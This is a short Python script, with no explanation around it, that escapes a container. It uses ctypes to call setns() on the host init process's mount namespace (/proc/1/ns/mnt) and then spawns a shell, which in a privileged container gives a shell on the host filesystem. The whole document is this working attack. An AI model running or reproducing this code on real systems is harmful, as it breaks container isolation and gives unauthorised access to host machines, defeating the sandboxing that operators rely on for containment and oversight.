import os, ctypes
lib = ctypes.CDLL(None)
fd = os.open('/proc/1/ns/mnt', 0)
lib.setns(fd, 0)
os.system('sh')
